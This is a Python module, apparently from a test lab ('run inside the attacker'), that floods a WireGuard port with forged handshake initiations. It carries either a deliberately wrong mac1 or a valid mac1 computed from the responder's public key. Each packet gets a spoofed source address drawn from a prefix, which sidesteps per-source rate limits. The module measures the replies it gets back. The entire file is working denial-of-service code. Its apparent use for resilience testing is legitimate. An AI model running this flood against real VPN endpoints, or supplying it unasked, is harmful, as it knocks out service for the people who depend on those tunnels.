"""A flood of forged handshakes against one WireGuard port, at a steady rate.

Two kinds: initiations with a wrong mac1, which anybody can send, and with a right one
over garbage, which everybody can send who knows the responder's public key. They come
from ever new addresses of a range that the attacking host answers for, so no
per-source limit holds them back.

Run inside the attacker: `python -m topology.flood ADDRESS PORT KEY KIND RATE SECONDS
SOURCES`; KEY is the responder's public key in base64, KIND `bad-mac1` or
`valid-mac1`, SOURCES an IPv4 prefix. It writes a JSON object with the datagrams and
bytes sent, and what came back.
"""

import contextlib
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time
from base64 import b64decode
from collections.abc import Iterator
from hashlib import blake2s

_PREPARED = 4096
_TICK = 0.002
_IP_PKTINFO = 8
_IP_FREEBIND = 15


def main(arguments: list[str]) -> int:
    """Send the flood that the module's docstring describes."""
    address, port, key, kind, rate, seconds, sources = arguments
    messages = [_message(b64decode(key), kind) for _ in range(_PREPARED)]
    network = ipaddress.IPv4Network(sources)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.setsockopt(socket.IPPROTO_IP, _IP_FREEBIND, 1)
        udp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2**22)
        udp.setblocking(False)
        origins = [_origin(network) for _ in range(_PREPARED)]
        sent, replies, reply_bytes = _flood(
            udp, (address, int(port)), messages, origins, float(rate), float(seconds)
        )
    json.dump(
        {
            "sent": sent,
            "sent_bytes": 148 * sent,
            "replies": replies,
            "reply_bytes": reply_bytes,
        },
        sys.stdout,
    )
    return 0


def _message(public_key: bytes, kind: str) -> bytes:
    message = struct.pack("<II", 1, random.getrandbits(32)) + os.urandom(108)
    mac_key = blake2s(b"mac1----" + public_key).digest()
    mac1 = blake2s(message, key=mac_key, digest_size=16).digest()
    if kind == "bad-mac1":
        mac1 = bytes(byte ^ 0xFF for byte in mac1)
    return message + mac1 + bytes(16)


def _origin(network: ipaddress.IPv4Network) -> list[tuple[int, int, bytes]]:
    address = network[random.randrange(1, network.num_addresses - 1)]
    info = struct.pack("=i4s4s", 0, address.packed, bytes(4))
    return [(socket.IPPROTO_IP, _IP_PKTINFO, info)]


def _flood(
    udp: socket.socket,
    target: tuple[str, int],
    messages: list[bytes],
    origins: list[list[tuple[int, int, bytes]]],
    rate: float,
    seconds: float,
) -> tuple[int, int, int]:
    """Return the datagrams sent, the replies, and the bytes of these."""
    sent = replies = reply_bytes = 0
    started = time.monotonic()
    while (elapsed := time.monotonic() - started) < seconds:
        # At a rate beyond our means a tick's worth is sent, and then the clock asked.
        due = min(int(elapsed * rate), sent + int(2 * _TICK * rate) + 1)
        while sent < due:
            origin = origins[(sent * 7919) % _PREPARED]
            try:
                udp.sendmsg((messages[sent % _PREPARED],), origin, 0, target)
            except BlockingIOError:
                break
            sent += 1
        for size in _waiting(udp):
            replies, reply_bytes = replies + 1, reply_bytes + size
        time.sleep(_TICK)
    time.sleep(0.2)
    for size in _waiting(udp):
        replies, reply_bytes = replies + 1, reply_bytes + size
    return sent, replies, reply_bytes


def _waiting(udp: socket.socket) -> Iterator[int]:
    """Yield the size of each datagram that waits."""
    with contextlib.suppress(BlockingIOError):
        while True:
            yield len(udp.recv(2048))


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
